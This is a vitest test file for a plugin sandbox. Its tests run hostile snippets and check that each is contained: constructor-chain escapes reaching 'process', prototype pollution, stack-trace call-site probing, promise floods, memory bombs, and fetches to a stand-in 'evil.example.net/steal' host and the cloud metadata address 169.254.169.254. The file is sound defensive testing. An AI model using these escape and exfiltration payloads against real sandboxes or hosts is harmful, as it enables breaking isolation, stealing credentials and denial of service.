import { types } from 'node:util';
import { scopeHostApi } from '@intelgraph/capabilities';
import { createSandbox } from '@intelgraph/sandbox';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { expectHostUnharmed, failure, hostApi, hostCallCount, manifest, seen } from './helpers.js';

// One test per attempt. Each asserts the typed outcome AND that the host is unharmed, and the
// sandbox keeps serving (a benign run still works afterwards).
const sandbox = createSandbox({ poolSize: 2, maxHostCalls: 200, maxConcurrentHostCalls: 16 });
const api = scopeHostApi(hostApi, ['graph:read', 'net:api.example.com']);
const benign = 'export async function run(i) { return "still serving"; }';

afterEach(async () => {
  expectHostUnharmed();
  expect(await sandbox.run({ code: benign, manifest })).toMatchObject({ ok: true, value: 'still serving' });
});
afterAll(() => sandbox.close());

const run = (code: string, extra: Partial<Parameters<typeof sandbox.run>[0]> = {}) =>
  sandbox.run({ code, manifest, api, ...extra });

describe('escape and abuse suite', () => {
  it("this.constructor.constructor('return process')() finds no process", async () => {
    const r = await run(`module.exports.run = async function (input, api) {
      const viaThis = (function () { return this; })();
      const F = ({}).constructor.constructor;
      const out = {};
      for (const [name, fn] of [['object', F], ['api', api.graph.search.constructor], ['console', console.log.constructor]]) {
        try { out[name] = typeof fn('return process')(); } catch (e) { out[name] = e.name; }
      }
      try { out.globalProcess = typeof this.constructor.constructor('return process')(); } catch (e) { out.globalProcess = e.name; }
      out.require = typeof require; out.globalThisKeys = Object.getOwnPropertyNames(globalThis).filter((k) => /^(ivm|_ivm|Reference|Callback|ExternalCopy|Isolate|process|require|Buffer|global|module.parent)$/.test(k));
      return out;
    }`);
    expect(r).toMatchObject({
      ok: true,
      value: {
        object: 'ReferenceError',
        api: 'ReferenceError',
        console: 'ReferenceError',
        globalProcess: 'ReferenceError',
        require: 'undefined',
        globalThisKeys: [],
      },
    });
    const direct = await run(
      "module.exports.run = async () => this.constructor.constructor('return process')().exit(1)",
    );
    expect(failure(direct)).toMatchObject({ code: 'PLUGIN_ERROR', details: { name: 'ReferenceError' } });
  });

  it('__proto__ in a returned value is refused; prototype pollution stays inside the isolate', async () => {
    const returned = await run(`export async function run() {
      Object.prototype.polluted = 'yes'; Array.prototype.polluted = 'yes';
      return JSON.parse('{"ok":1,"__proto__":{"polluted":"yes"}}');
    }`);
    expect(failure(returned)).toMatchObject({
      code: 'PLUGIN_ERROR',
      details: { reason: 'dangerous_key', path: '__proto__' },
    });
    const constructorKey = await run(
      'export async function run() { return { a: { constructor: { prototype: { polluted: 1 } } } }; }',
    );
    expect(failure(constructorKey).code).toBe('PLUGIN_ERROR');
    const clean = await run(
      'export async function run() { return [({}).polluted ?? null, [].polluted ?? null]; }',
    );
    expect(clean).toMatchObject({ ok: true, value: [null, null] });
  });

  it('__proto__ in host API arguments is refused before any handler runs', async () => {
    const before = hostCallCount;
    const r = await run(`export async function run(i, api) {
      try { await api.graph.search(JSON.parse('{"q":"x","__proto__":{"polluted":"yes"}}')); return 'accepted'; }
      catch (e) { return e.code; }
    }`);
    expect(r).toMatchObject({ ok: true, value: 'INVALID_INPUT' });
    expect(hostCallCount).toBe(before);
  });

  it('Error.prepareStackTrace cannot reach host objects through call sites', async () => {
    const r = await run(`export async function run(i, api) {
      const found = [];
      Error.prepareStackTrace = (err, sites) => {
        for (const s of sites) {
          let self, fn;
          try { self = s.getThis(); } catch {}
          try { fn = s.getFunction(); } catch {}
          found.push([s.getFileName(), typeof self, self && self.constructor && self.constructor.name, typeof fn]);
        }
        return 'custom';
      };
      const p = new Proxy({}, { get(t, k) { if (k === 'toJSON') { new Error().stack; } return undefined; }, ownKeys() { new Error().stack; return []; } });
      await api.graph.search(p).catch(() => null);
      console.log('x', p);
      try { null.x; } catch (e) { e.stack; }
      return found.filter(([, , ctor]) => ctor && !['Object', 'Array', 'Function', 'Proxy'].includes(ctor)).map((f) => f.join('|'));
    }`);
    expect(r.ok).toBe(true);
    if (r.ok) expect(r.value).toEqual([]);
    const thrown = await run(`export async function run() {
      Error.prepareStackTrace = () => { throw new Error('trap'); };
      throw new Error('after trap');
    }`);
    expect(failure(thrown)).toMatchObject({ code: 'PLUGIN_ERROR', message: 'after trap' });
    expect(Error.prepareStackTrace).not.toBeTypeOf('string');
  });

  it('proxies and getters handed to the host arrive as plain copied data (or are refused)', async () => {
    seen.length = 0;
    const r = await run(`export async function run(i, api) {
      let reads = 0;
      const proxy = new Proxy({ q: 'p' }, { get(t, k) { reads++; return Reflect.get(t, k); } });
      const getter = { get q() { reads++; return 'g'; } };
      const throwing = { get q() { throw new Error('gotcha'); } };
      const a = await api.graph.search(proxy);
      const b = await api.graph.search(getter);
      const c = await api.graph.search(throwing).catch((e) => e.code);
      return { a: a.length, b: b.length, c, reads };
    }`);
    expect(r).toMatchObject({ ok: true, value: { a: 1, b: 1, c: 'INVALID_INPUT' } });
    expect(seen).toEqual([{ q: 'p' }, { q: 'g' }]);
    for (const v of seen) {
      expect(types.isProxy(v)).toBe(false);
      expect(Object.getPrototypeOf(v)).toBe(Object.prototype);
      expect(Object.getOwnPropertyDescriptor(v, 'q')?.get).toBeUndefined();
    }
    const resultGetter = await run('export async function run() { return { get boom() { for (;;) {} } }; }');
    expect(failure(resultGetter)).toMatchObject({ code: 'BUDGET_EXCEEDED', details: { resource: 'wall' } });
  });

  it('an infinite synchronous loop is stopped by the wall budget and really stops', async () => {
    const r = await run('module.exports.run = async () => { for (;;) {} }');
    expect(failure(r)).toMatchObject({
      code: 'BUDGET_EXCEEDED',
      details: { resource: 'wall', limit: manifest.budgets.ms },
    });
    // Stopped at the deadline, not when the loop ends (it never would); the margin absorbs a loaded machine.
    expect(r.usage.wallMs).toBeLessThan(manifest.budgets.ms + 5000);
  });

  it('an infinite asynchronous loop, also between host calls, is stopped and nothing runs afterwards', async () => {
    const microtasks = await run('export async function run() { for (;;) await null; }');
    expect(failure(microtasks)).toMatchObject({ code: 'BUDGET_EXCEEDED', details: { resource: 'wall' } });
    const before = hostCallCount;
    const calls = await run(
      'export async function run(i, api) { for (;;) { api.graph.tick().catch(() => {}); for (let j = 0; j < 1e6; j++); } }',
    );
    expect(failure(calls)).toMatchObject({ code: 'BUDGET_EXCEEDED' });
    const atReturn = hostCallCount;
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(hostCallCount).toBe(atReturn);
    expect(atReturn - before).toBeLessThanOrEqual(200);
  });

  it('a promise flood is contained: host calls are capped and the run ends typed', async () => {
    const before = hostCallCount;
    const r = await run(`export async function run(i, api) {
      const all = [];
      for (let k = 0; k < 100000; k++) all.push(api.graph.tick().catch((e) => e.code));
      for (let k = 0; k < 200000; k++) Promise.resolve(k).then(() => {});
      const codes = await Promise.all(all);
      return { rateLimited: codes.filter((c) => c === 'RATE_LIMITED').length, ok: codes.filter((c) => c === 1).length };
    }`);
    expect(hostCallCount - before).toBeLessThanOrEqual(200);
    if (r.ok) {
      const v = r.value as { rateLimited: number; ok: number };
      expect(v.ok).toBeLessThanOrEqual(200);
      expect(v.rateLimited).toBeGreaterThan(99000);
    } else {
      expect(failure(r).code).toBe('BUDGET_EXCEEDED');
    }
  });

  it('memory bombs end with BUDGET_EXCEEDED memory (or a plugin RangeError), then runs work again', async () => {
    const arrays = await run(
      'export async function run() { const a = []; for (;;) a.push(new Array(1e5).fill(Math.PI)); }',
      {
        manifest: { ...manifest, budgets: { ...manifest.budgets, ms: 10000 } },
      },
    );
    expect(failure(arrays)).toMatchObject({ code: 'BUDGET_EXCEEDED', details: { resource: 'memory' } });
    const buffers = await run(
      'export async function run() { const a = []; for (;;) a.push(new Uint8Array(8 * 1024 * 1024).fill(1)); }',
      {
        manifest: { ...manifest, budgets: { ...manifest.budgets, ms: 10000 } },
      },
    );
    expect(failure(buffers)).toMatchObject({ code: 'BUDGET_EXCEEDED', details: { resource: 'memory' } });
    const strings = await run('export async function run() { let s = "x"; for (;;) s += s; }', {
      manifest: { ...manifest, budgets: { ...manifest.budgets, ms: 10000 } },
    });
    const f = failure(strings);
    expect(['BUDGET_EXCEEDED', 'PLUGIN_ERROR']).toContain(f.code);
    if (f.code === 'PLUGIN_ERROR') expect(f.details.name).toBe('RangeError');
  });

  it('huge outputs are refused with BUDGET_EXCEEDED output', async () => {
    const r = await run('export async function run() { return "o".repeat(200 * 1024); }');
    expect(failure(r)).toMatchObject({
      code: 'BUDGET_EXCEEDED',
      details: { resource: 'output', limit: 65536 },
    });
    const nested = await run(
      'export async function run() { let v = 0; for (let i = 0; i < 10000; i++) v = [v]; return v; }',
    );
    expect(failure(nested).code).toMatch(/PLUGIN_ERROR|BUDGET_EXCEEDED/);
  });

  it('huge logs are capped and flagged, without failing the run', async () => {
    const r = await run(
      'export async function run() { for (let i = 0; i < 100000; i++) console.log("l".repeat(1000)); return "done"; }',
    );
    expect(r).toMatchObject({ ok: true, value: 'done', logsTruncated: true });
    expect(r.usage.logBytes).toBeLessThanOrEqual(8 * 1024);
    expect(r.logs.length).toBeLessThan(20);
    const oneHuge = await run('export async function run() { console.log("h".repeat(5e6)); return 1; }');
    expect(oneHuge.ok).toBe(true);
    expect(oneHuge.logs.every((l) => l.message.length <= 8200)).toBe(true);
  });

  it('deep recursion ends as PLUGIN_ERROR RangeError', async () => {
    const r = await run(
      'function f(n) { return f(n + 1) + 1; }\nexport async function run() { return f(0); }',
    );
    expect(failure(r)).toMatchObject({ code: 'PLUGIN_ERROR', details: { name: 'RangeError' } });
    expect(failure(r).message).toMatch(/call stack/);
  });

  it('SharedArrayBuffer, Atomics.wait and WebAssembly are not available', async () => {
    const r = await run(`export async function run() {
      return [typeof SharedArrayBuffer, typeof Atomics, typeof WebAssembly];
    }`);
    expect(r).toMatchObject({ ok: true, value: ['undefined', 'undefined', 'undefined'] });
    const wait = await run(
      'export async function run() { Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); }',
    );
    expect(failure(wait)).toMatchObject({ code: 'PLUGIN_ERROR', details: { name: 'ReferenceError' } });
  });

  it('ungranted scopes: the methods are absent, and calling them fails', async () => {
    const r = await run(`export async function run(i, api) {
      const visible = Object.keys(api).flatMap((ns) => Object.keys(api[ns]).map((m) => ns + '.' + m));
      return { visible, cases: typeof api.cases };
    }`);
    expect(r).toMatchObject({
      ok: true,
      value: { visible: ['graph.search', 'graph.tick', 'net.fetch'], cases: 'undefined' },
    });
    const call = await run('export async function run(i, api) { return api.cases.create({ title: "x" }); }');
    expect(failure(call)).toMatchObject({ code: 'PLUGIN_ERROR', details: { name: 'TypeError' } });
    const none = await sandbox.run({
      code: 'export async function run(i, api) { return Object.keys(api); }',
      manifest,
    });
    expect(none).toMatchObject({ ok: true, value: [] });
  });

  it('fetch to a non-allowlisted host or a private address is CAPABILITY_DENIED', async () => {
    const other = await run(
      'export async function run(i, api) { return api.net.fetch({ url: "https://evil.example.net/steal" }); }',
    );
    expect(failure(other).code).toBe('CAPABILITY_DENIED');
    expect(other.provenance.hostCalls).toEqual([
      expect.objectContaining({
        method: 'net.fetch',
        scope: 'net:evil.example.net:443',
        ok: false,
        error: 'CAPABILITY_DENIED',
      }),
    ]);
    const metadata = await sandbox.run({
      code: 'export async function run(i, api) { return api.net.fetch({ url: "http://169.254.169.254/latest/meta-data/" }); }',
      manifest,
      api: scopeHostApi(hostApi, ['net:*']),
    });
    expect(failure(metadata).code).toBe('CAPABILITY_DENIED');
    const rebinding = await sandbox.run({
      code: 'export async function run(i, api) { return api.net.fetch({ url: "https://internal.example.org/" }); }',
      manifest,
      api: scopeHostApi(hostApi, ['net:*.example.org']),
    });
    expect(failure(rebinding)).toMatchObject({ code: 'CAPABILITY_DENIED' });
  });
});
